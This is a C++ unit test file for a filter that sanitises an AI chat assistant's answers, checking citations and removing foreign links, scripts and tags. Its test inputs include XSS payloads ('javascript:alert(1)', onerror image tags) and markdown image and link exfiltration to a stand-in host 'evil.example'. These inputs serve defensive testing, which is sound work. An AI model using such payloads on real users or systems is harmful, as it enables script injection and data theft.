#include "assistant/grounding/filter.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <ostream>
#include <random>
#include <regex>
#include <vector>

namespace hiochat::assistant::grounding {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

std::shared_ptr<const Addresses> shop() {
    auto known = std::make_shared<Addresses>();
    known->add("https://shop.example/returns help@shop.example");
    return known;
}

std::string filtered(std::string_view text, std::int64_t passages = 3) {
    Filter filter{passages, shop()};
    auto out = filter.feed(text);
    return out + filter.finish();
}

struct Case {
    const char* name;
    std::string said;
    std::string shown;
};

void PrintTo(const Case& each, std::ostream* out) {
    *out << each.name;
}

const std::vector<Case> cases{
    {"plain",
     "Returns are free.\n\n- within 30 days\n- unused",
     "Returns are free.\n\n- within 30 days\n- unused"},
    {"citation", "Free [1]. Fast [2][3].", "Free [1]. Fast [2][3]."},
    {"citation_that_does_not_exist", "Free [4]. Fast [1] [7], really.", "Free. Fast [1], really."},
    {"citations_together", "Free [1, 2] and [2-3] and [1,9].", "Free [1][2] and [2][3] and [1]."},
    {"citations_in_words",
     "Free [Source 1], [^2], 【3】, 【2†source】, 【8】.",
     "Free [1], [2], [3], [2],."},
    {"citation_as_link", "Free [1](https://evil.example/).", "Free [1]."},
    {"zero", "Free [0].", "Free."},
    {"brackets",
     "An array[i] and [x] and [sic] and [2024] and [] stay.",
     "An array[i] and [x] and [sic] and [2024] and [] stay."},
    {"open_bracket", "What [is this", "What [is this"},
    {"known_link",
     "See [returns](https://shop.example/returns).",
     "See [returns](https://shop.example/returns)."},
    {"known_link_with_title",
     "See [returns](<https://shop.example/returns> \"Now!\").",
     "See [returns](https://shop.example/returns)."},
    {"foreign_link", "See [returns](https://evil.example/?q=secret).", "See returns."},
    {"foreign_parameter", "See [returns](https://shop.example/returns?q=secret).", "See returns."},
    {"script_link", "Click [here](javascript:alert(1)) now.", "Click here now."},
    {"data_link", "Click [here](data:text/html;base64,PHNjcmlwdD4=).", "Click here."},
    {"entities_in_link", "Click [here](&#106;avascript:alert(1)).", "Click here."},
    {"relative_link", "Click [here](//evil.example/x) or [there](/logout).", "Click here or there."
    },
    {"image_in_link", "[![x](https://evil.example/a.png)](https://evil.example/)", ""},
    {"image", "Look: ![secret](https://evil.example/p.png?d=42) nice.", "Look: nice."},
    {"known_image",
     "Look: ![lamp](https://shop.example/returns).",
     "Look: [lamp](https://shop.example/returns)."},
    {"unclosed_image", "Look: ![x](https://evil.example/p.png?d=42", "Look: ![x] ("},
    {"script", "Free <script>fetch('//evil.example')</script>today.", "Free today."},
    {"style", "Free <STYLE\ntype=a>@import '//evil.example/a.css'</Style > today.", "Free today."},
    {"unclosed_script", "Free <script>today.", "Free today."},
    {"no_script", "Free <scripture>today</scripture>.", "Free today."},
    {"bare_address", "Go to https://evil.example/x?d=1, please.", "Go to, please."},
    {"known_address",
     "Go to https://shop.example/returns, please.",
     "Go to https://shop.example/returns, please."},
    {"address_first", "https://evil.example/x is it.", "is it."},
    {"known_address_first",
     "https://shop.example/returns is it.",
     "https://shop.example/returns is it."},
    {"www_first", "WWW.evil.example is it.", "is it."},
    {"scheme_first", "foo://evil.example is it.", "foo is it."},
    {"mail_first", "ann@evil.example is it.", "ann is it."},
    {"mail_with_dot_first", "ann.lee@evil.example is it.", "ann is it."},
    {"known_mail_first", "help@shop.example is it.", "help@shop.example is it."},
    {"beginning_of_an_address_first", "htt is it.", "htt is it."},
    {"address_with_more_behind", "Go to https://shop.example/returns!secret now.", "Go to now."},
    {"address_in_brackets", "Go there (https://evil.example).", "Go there."},
    {"www", "Go to www.evil.example/x or WWW.evil.example.", "Go to or."},
    {"autolink",
     "Go to <https://evil.example/> or <https://shop.example/returns>.",
     "Go to or https://shop.example/returns."},
    {"foreign_mail",
     "Write to ann@evil.example or help@shop.example.",
     "Write to or help@shop.example."},
    {"ftp", "Get ftp://evil.example/x.", "Get."},
    {"foreign_host_beyond_ascii", "Go to https://bücher.example/x now.", "Go to now."},
    {"reference", "See [it][1a].\n\n[1a]: https://evil.example", "See [it][1a].\n\n[1a] :"},
    {"reference_to_script", "See [it][1].\n\n[1]: javascript:alert(1)", "See [it][1].\n\n[1] :"},
    {"tags",
     "A <b>bold</b> <img src=x onerror=alert(1)> <script>run()</script> word.",
     "A bold word."},
    {"unclosed_tag", "A <img src=x onerror=alert(1)", "A < img src=x onerror=alert(1)"},
    {"tag_over_lines", "A <img\nsrc=x> b <img\n\nsrc=x>", "A b < img\n\nsrc=x>"},
    {"less_than", "3 < 4, 5<6 and 7 > 2, <3", "3 < 4, 5<6 and 7 > 2, <3"},
    {"comment", "A <!-- hidden --> b", "A b"},
    {"code", "Use `<b title=\"a [9]\">` here.", "Use `<b title=\"a [9]\">` here."},
    {"address_in_code",
     "Use `<script src=\"https://evil.example\">` or `https://shop.example/returns` here.",
     "Use `<script src=\"\">` or `https://shop.example/returns` here."},
    {"nothing_but_an_address_in_code", "Use ``https://evil.example`` here.", "Use here."},
    {"script_in_code", "Use `javascript:alert(1)` or `data: 1`.", "Use or `data: 1`."},
    {"host_in_code", "Use `<a href=\"//evil.example/x\">`.", "Use `<a href=\"\">`."},
    {"address_in_code_block",
     "```\nfetch('https://evil.example/x') // see mail@evil.example\n```",
     "```\nfetch('') // see \n```"},
    {"code_block",
     "Put:\n```html\n<div>[9]</div>\n```\nthen [9].",
     "Put:\n```html\n<div>[9]</div>\n```\nthen."},
    {"code_that_does_not_end", "A ` ![x](https://evil.example/p)", "A '"},
    {"fence_that_is_none", "``` x ``` ![x](https://evil.example/p)", "``` x ```"},
    {"fence_closed_within_a_line", "```\nx ``` <b>\n```\n<b>y", "```\nx ``` <b>\n```\ny"},
    {"code_over_lines", "Use `a\n<b>x</b>` here.", "Use 'a\nx' here."},
    {"code_over_a_cell", "| `a | <b>` |", "| `a | < b>` |"},
    {"code_with_tildes", "~~~\n```\n~~~\n<b>x", "~~~\n```\n~~~\nx"},
    {"code_in_a_list",
     "- a\n  ```\n<b>\n  ```\n    ```\n    <b>\n    ```\n",
     "- a\n  ```\n< b>\n  ```\n    ```\n    < b>\n    ```\n"},
    {"code_in_a_quote", "> ```\n> <b>[here](https://evil.example)\n> ```", "> \n> here\n>"},
    {"tag_in_pieces", "<[99]script>alert(1)<[99]/script>", "< script>alert(1)< /script>"},
    {"tag_with_a_hidden_letter", "<\xE2\x80\xAEimg src=x> a <\rb> c", "a c"},
    {"tag_with_an_escape", "\\<b>x\\</b> 1 \\< 2", "x 1 < 2"},
    {"address_in_pieces",
     "https:[99]//evil.example https:<i></i>//evil.example htt[99]ps://evil.example "
     "www[99].evil.example ann[99]@evil.example",
     "https: https: htt www .evil.example ann @evil.example"},
    {"address_with_a_hidden_letter", "https:\xE2\x80\xAE//evil.example", ""},
    {"address_around_an_address", "See https:/a@evil.example/evil.example now.", "See now."},
    {"known_address_goes_on",
     "See https://shop.example/returns[99]?q=secret or https://shop.example/returns[1].",
     "See https://shop.example/returns ?q=secret or https://shop.example/returns [1]."},
    {"citation_in_pieces",
     "Free [<b></b>7] [7<b>] 【7<b>】 [no <b>answer].",
     "Free [7 [7 【7 [no answer."},
    {"unclosed_link_of_a_citation", "Free [7](x", "Free (x"},
    {"escaped", "\\[1] \\![x](https://evil.example) 1\\. a", "\\[1] \\!x 1\\. a"},
    {"deceiving_characters",
     "a\xE2\x80\xAE"
     "b\x01"
     "c\xF3\xA0\x81\x81"
     "d",
     "abcd"},
    {"no_answer", "[no answer]", ""},
    {"no_answer_after_words", "I am sorry. [NO ANSWER]", "I am sorry."},
    {"follow_ups", "Yes [1].\n\n[follow-ups]\nHow much?\nWhen?", "Yes [1]."},
    {"beyond_ascii",
     "Größe: 12 €. 返品は[1]可能です[5]。 שלום",
     "Größe: 12 €. 返品は[1]可能です。 שלום"},
    {"spaces", "  \n A  b \n", "A  b"},
};

struct FilterTest : testing::TestWithParam<Case> {};

TEST_P(FilterTest, shows_what_may_be_shown) {
    EXPECT_EQ(filtered(GetParam().said), GetParam().shown);
}

TEST_P(FilterTest, shows_the_same_however_it_is_cut) {
    const auto& said = GetParam().said;
    for (std::size_t size = 1; size < 9; ++size) {
        Filter filter{3, shop()};
        std::string out;
        for (std::size_t at = 0; at < said.size(); at += size) {
            out += filter.feed(std::string_view{said}.substr(at, size));
        }
        EXPECT_EQ(out + filter.finish(), GetParam().shown) << size;
    }
    for (std::size_t at = 0; at <= said.size(); ++at) {
        Filter filter{3, shop()};
        auto out = filter.feed(std::string_view{said}.substr(0, at));
        out += filter.feed(std::string_view{said}.substr(at));
        EXPECT_EQ(out + filter.finish(), GetParam().shown) << at;
    }
}

INSTANTIATE_TEST_SUITE_P(, FilterTest, testing::ValuesIn(cases), [](const auto& each) {
    return std::string{each.param.name};
});

// As whoever reads the text without knowing Markdown; targets of links are known ones.
std::vector<std::string> addresses_in(std::string text) {
    static const std::string target = "](https://shop.example/returns)";
    for (auto at = text.find(target); at != text.npos; at = text.find(target)) {
        text.replace(at, target.size(), "] ");
    }
    std::vector<std::string> out;
    for (auto found = find_address(text); found; found = find_address(text, found->end)) {
        out.push_back(text.substr(found->begin, found->end - found->begin));
    }
    return out;
}

TEST(Filter, what_it_took_out_joins_nothing) {
    const std::vector<std::string> parts{
        "<",
        ">",
        "</",
        "<b>",
        "</b>",
        "script",
        "img src=x",
        "<!--",
        "-->",
        "[99]",
        "[1]",
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "!",
        ":",
        "/",
        "//",
        "https:",
        "https://",
        "evil.example",
        "https://evil.example/x",
        "https://shop.example/returns",
        "(https://shop.example/returns)",
        "ann@evil.example",
        "help@shop.example",
        "@",
        "www.",
        ".",
        "7",
        "javascript:",
        "alert(1)",
        "\\",
        "\xE2\x80\xAE",
        "\xEF\xBB\xBF",
        "\xE2\x80",
        "\r",
        " ",
        " ",
        "\n",
        "\n\n",
        "a",
        "word",
        "ü",
        "。",
        "【",
        "】",
        "*",
        "**",
        "~",
        "no answer",
        "|",
        "\"",
        "'",
        "`",
        "``",
        "```",
        "~~~",
        "\n```\n",
        "\n~~~\n",
        "> ",
        "- "
    };
    const std::size_t without_code = parts.size() - 8;
    std::mt19937 random{7};
    for (int round = 0; round < 1500; ++round) {
        const bool code = round % 2 == 0;
        std::string said;
        for (auto left = 1 + random() % 24; left > 0; --left) {
            said += parts[random() % (code ? parts.size() : without_code)];
        }
        const auto shown = filtered(said);
        ASSERT_EQ(filtered(shown), shown) << said;
        for (std::size_t size = 1; size < 8; size += 3) {
            Filter filter{3, shop()};
            std::string out;
            for (std::size_t at = 0; at < said.size(); at += size) {
                out += filter.feed(std::string_view{said}.substr(at, size));
            }
            ASSERT_EQ(out + filter.finish(), shown) << said;
        }
        for (const auto& address : addresses_in(shown)) {
            ASSERT_TRUE(shop()->contains(address)) << said << "\n" << shown;
        }
        if (!code) {
            ASSERT_FALSE(std::regex_search(shown, std::regex{"<[a-zA-Z/!?]"})) << said;
        }
    }
}

TEST(Filter, shows_words_as_soon_as_they_are_whole) {
    Filter filter{1, shop()};
    EXPECT_EQ(filter.feed("Returns are fr"), "Returns are");
    EXPECT_EQ(filter.feed("ee within"), " free");
    EXPECT_EQ(filter.finish(), " within");
}

TEST(Filter, shows_the_first_word_at_once) {
    Filter filter{1, shop()};
    EXPECT_EQ(filter.feed("Re"), "Re");
    EXPECT_EQ(filter.feed("turns"), "turns");
    EXPECT_EQ(filter.feed(", wit"), ",");
    EXPECT_EQ(filter.feed("hin"), "");

    Filter address{1, shop()};
    EXPECT_EQ(address.feed("ht"), "");
    EXPECT_EQ(address.feed("tp"), "");
    EXPECT_EQ(address.feed("://evil.example is"), "is");
    EXPECT_EQ(address.finish(), "");
}

TEST(Filter, tells_what_was_cited_and_that_there_is_no_answer) {
    Filter filter{5, shop()};
    filter.feed("A [2], b [7], c [5][2], [no answer]\n[follow-ups]\nWhy?\n");
    filter.finish();
    EXPECT_THAT(filter.cited(), ElementsAre(2, 5));
    EXPECT_TRUE(filter.said_no_answer());
    EXPECT_EQ(filter.follow_ups(), "\nWhy?\n");
}

TEST(Filter, long_brackets_hold_back_only_so_much) {
    Filter filter{1, shop()};
    const auto out = filter.feed("[" + std::string(5000, 'a'));
    EXPECT_GT(out.size(), 2000U);
    std::string deep(3000, '[');
    EXPECT_EQ(filtered(deep), deep);
    std::string links;
    for (int i = 0; i < 300; ++i) {
        links = "[" + links + "](javascript:x)";
    }
    EXPECT_THAT(filtered(links), Not(HasSubstr("](javascript")));
}

} // namespace
} // namespace hiochat::assistant::grounding
